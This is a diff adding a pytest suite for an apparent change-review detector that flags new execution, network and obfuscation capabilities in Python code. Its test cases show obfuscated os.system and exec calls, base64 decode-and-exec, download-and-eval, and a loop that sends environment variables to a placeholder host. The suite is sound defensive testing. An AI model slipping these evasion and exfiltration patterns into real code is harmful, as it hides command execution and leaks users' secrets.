@@ -1,0 +1,271 @@
+"""What Python code newly does."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.comparators.analysis.findings.cases import found, lines
+
+NAMED = " named by a string"
+CASES = {
+    "a module under another name": (
+        "import subprocess as s\ns.run('x')",
+        ["review m.py:2 executes: subprocess.run"],
+    ),
+    "a function for itself": (
+        "from os import system\nsystem('x')",
+        ["review m.py:2 executes: os.system"],
+    ),
+    "all functions": (
+        "from os import *\nsystem('x')",
+        ["review m.py:2 executes: os.system"],
+    ),
+    "getattr": (
+        "import os\ngetattr(os, 'system')('x')",
+        ["alert m.py:2 os.system, named by a string"],
+    ),
+    "parts of names": (
+        "getattr(__import__('o' + 's'), 'metsys'[::-1])('x')",
+        ["alert m.py:1 os.system, named by a string"],
+    ),
+    "characters": (
+        "import os\ngetattr(os, ''.join(map(chr, [101, 120, 101, 99, 118])))",
+        ["alert m.py:2 os.execv, named by a string"],
+    ),
+    "builtins": (
+        "__builtins__['exec']('x')",
+        ["alert m.py:1 builtins.exec, named by a string"],
+    ),
+    "vars": (
+        "import builtins as b\nvars(b)['ev' + 'al']('x')",
+        ["alert m.py:2 builtins.eval, named by a string"],
+    ),
+    "globals": (
+        "globals()['__builtins__'].exec('x')",
+        ["alert m.py:1 builtins.exec, named by a string"],
+    ),
+    "import_module": (
+        "import importlib\nimportlib.import_module('os').system('x')",
+        ["alert m.py:2 os.system, named by a string"],
+    ),
+    "sys.modules": (
+        "import sys\nsys.modules['os'].__dict__['system']('x')",
+        ["alert m.py:2 os.system, named by a string"],
+    ),
+    "attrgetter": (
+        "import operator, os\noperator.attrgetter('system')(os)('x')",
+        ["alert m.py:2 os.system, named by a string"],
+    ),
+    "a default": (
+        "import os\ndef f(o=os):\n    o.popen('x')",
+        ["review m.py:3 executes: os.popen"],
+    ),
+    "an attribute": (
+        "import subprocess\nclass A:\n    r = subprocess\n"
+        "    def f(self):\n        self.r.run('x')",
+        ["review m.py:5 executes: subprocess.run"],
+    ),
+    "a decorator": (
+        "@exec\n@input\nclass X: pass",
+        ["review m.py:1 executes: builtins.exec"],
+    ),
+    "subclasses": (
+        "().__class__.__base__.__subclasses__()",
+        ["review m.py:1 executes: object.__subclasses__"],
+    ),
+    "a library": (
+        "import ctypes\nctypes.CDLL(None).system(b'x')",
+        ["review m.py:2 executes: ctypes.CDLL, ctypes.CDLL().system (line 2)"],
+    ),
+    "another form of letters": (
+        "ｅｘｅｃ('x')",
+        ["review m.py:1 executes: builtins.exec"],
+    ),
+    "decoded and executed": (
+        "import base64\nexec(base64.b64decode('x'))",
+        ["alert m.py:2 builtins.exec executes what was decoded"],
+    ),
+    "decoded by a lambda": (
+        "_ = lambda __: __import__('zlib').decompress(\n"
+        "    __import__('base64').b64decode(__[::-1]))\nexec((_)(b'x'))",
+        ["alert m.py:3 builtins.exec executes what was decoded"],
+    ),
+    "decoded by a function, executed by another": (
+        "import base64\ndef d(x):\n    return base64.b64decode(x)\n"
+        "def e(c):\n    exec(c)\ny = d('x')\ne(y)",
+        ["alert m.py:5 builtins.exec executes what was decoded"],
+    ),
+    "downloaded and executed": (
+        "import urllib.request\n"
+        "d = urllib.request.urlopen('http://x').read()\neval(d)",
+        [
+            "alert m.py:3 builtins.eval executes what was downloaded",
+            "review m.py:2 connects: urllib.request.urlopen",
+        ],
+    ),
+    "downloaded by a session": (
+        "import requests\ns = requests.Session()\n"
+        "def f():\n    exec(s.get('http://x').text)",
+        [
+            "alert m.py:4 builtins.exec executes what was downloaded",
+            "review m.py:2 connects: requests.Session, "
+            "requests.Session().get (line 4)",
+        ],
+    ),
+    "the environment sent": (
+        "import os, requests\nt = ''\nfor _, v in os.environ.items():\n"
+        "    t += v\nrequests.get('http://x/' + t.encode())",
+        ["alert m.py:5 requests.get sends the environment or a secret"],
+    ),
+    "a program that goes on": (
+        "import subprocess\nsubprocess.Popen(['x'], start_new_session=True)",
+        [
+            "alert m.py:2 subprocess.Popen starts a program that goes on by "
+            "itself"
+        ],
+    ),
+    "a program made executable": (
+        "import os, subprocess\ndef f(p):\n    os.chmod(p, 0o770)\n"
+        "    subprocess.call([p])",
+        ["alert m.py:4 subprocess.call beside chmod in one function"],
+    ),
+    "a program that was fetched": (
+        "import subprocess, urllib.request\ndef f(p):\n"
+        "    urllib.request.urlretrieve('http://x', p)\n"
+        "    subprocess.call([p])",
+        [
+            "alert m.py:4 subprocess.call beside urllib.request.urlretrieve "
+            "in one function",
+            "review m.py:3 connects: urllib.request.urlretrieve",
+        ],
+    ),
+    "a socket": (
+        "import socket\nsocket.create_connection(('x', 1))",
+        ["review m.py:2 connects: socket.create_connection"],
+    ),
+    "an import alone": (
+        "import subprocess",
+        ["note m.py:1 executes: subprocess"],
+    ),
+}
+SILENT = {
+    "exceptions": (
+        "import subprocess, requests\ntry:\n    pass\n"
+        "except (subprocess.CalledProcessError, requests.HTTPError):\n"
+        "    pass"
+    ),
+    "types": "import requests\ndef f(s: requests.Session) -> None: ...",
+    "a method of that name": "class A:\n    def eval(self): ...\nA().eval()",
+    "addresses": "from urllib.parse import quote\nquote('x')",
+    "a pattern": "import re\nre.compile('x')",
+    "attributes by name": "getattr(object(), 'name', None)",
+    "text": "'''import os; os.system(\"x\"); exec(\"y\")'''",
+}
+
+
+def capabilities(old: str, new: str, path: str = "m.py") -> list[str]:
+    return [
+        f"{each.severity.value} {each.sentence}"
+        for each in found(
+            {path: old.encode()} if old else {}, {path: new.encode()}
+        )
+        if each.code.value == "new-capability"
+    ]
+
+
+def without_notes(findings: list[str], expected: list[str]) -> list[str]:
+    if any(line.startswith("note") for line in expected):
+        return findings
+    return [line for line in findings if not line.startswith("note")]
+
+
+@pytest.mark.parametrize(("new", "expected"), CASES.values(), ids=CASES)
+def test_an_added_file(new: str, expected: list[str]) -> None:
+    assert without_notes(capabilities("", new), expected) == expected
+
+
+@pytest.mark.parametrize(("new", "expected"), CASES.values(), ids=CASES)
+def test_lines_added_to_a_file(new: str, expected: list[str]) -> None:
+    rest = "\ndef rest():\n    '''What was there.'''\n    return 1\n" * 3
+    result = capabilities(rest, f"{new}{rest}")
+    assert without_notes(result, expected) == expected
+
+
+@pytest.mark.parametrize(("new", "expected"), CASES.values(), ids=CASES)
+def test_what_both_have_is_silent(new: str, expected: list[str]) -> None:
+    assert capabilities(new, f"{new}\n\ndef g(): return 1\n") == []
+
+
+@pytest.mark.parametrize("new", SILENT.values(), ids=SILENT)
+def test_what_can_do_nothing_is_silent(new: str) -> None:
+    result = capabilities("", new)
+    assert [line for line in result if not line.startswith("note")] == []
+
+
+def test_what_is_used_once_more_is_a_note() -> None:
+    old = "import subprocess\nsubprocess.run('x')\n"
+    assert capabilities(old, f"{old}subprocess.run('y')\n") == [
+        "note m.py:3 executes: subprocess.run"
+    ]
+
+
+def test_a_test_is_a_note() -> None:
+    assert capabilities("", "exec('x')", "tests/m.py") == [
+        "note tests/m.py:1 executes: builtins.exec"
+    ]
+
+
+def test_a_change_inside_a_class_is_found() -> None:
+    old = (
+        "import os\n\n\nclass A:\n    def f(self):\n        return 1\n\n"
+        "    def g(self):\n        return 2\n"
+    )
+    new = old.replace("return 2", "return os.system('x')")
+    assert capabilities(old, new) == ["review m.py:9 executes: os.system"]
+
+
+def test_a_name_given_by_an_unchanged_line_is_followed() -> None:
+    old = "from subprocess import run as r\n\n\ndef f():\n    return 1\n"
+    new = old.replace("return 1", "return r('x')")
+    assert capabilities(old, new) == ["review m.py:5 executes: subprocess.run"]
+
+
+@pytest.mark.parametrize(
+    ("new", "expected"),
+    [
+        (
+            "import os\nos.system('x')\n",
+            ["alert runs-at-import p/__init__.py:2 calls os.system"],
+        ),
+        (
+            "import os\ndef f(): os.system('x')\nf()\n",
+            ["alert runs-at-import p/__init__.py:2 calls os.system"],
+        ),
+        ("import os\ndef f(): os.system('x')\n", []),
+        (
+            "import os\nif __name__ == '__main__':\n    os.system('x')\n",
+            [],
+        ),
+    ],
+    ids=["at the top", "in a function that is called", "not called", "main"],
+)
+def test_what_runs_on_import(new: str, expected: list[str]) -> None:
+    result = lines({}, {"p/__init__.py": new.encode()})
+    assert [line for line in result if "runs-at-import" in line] == expected
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"),
+    [
+        ("x = 1\n", "x = (\n", True),
+        ("", "x = (\n", True),
+        ("x = (\n", "y = (\n", False),
+        ("x = 1\n", "print 'x'\n", False),
+        ("x = 1\n", "x = 2\n", False),
+    ],
+    ids=["no longer", "added", "neither", "Python 2", "both"],
+)
+def test_what_cannot_be_parsed(old: str, new: str, expected: bool) -> None:
+    tree = {"m.py": old.encode()} if old else {}
+    result = lines(tree, {"m.py": new.encode()})
+    assert any("no-longer-parses" in line for line in result) is expected
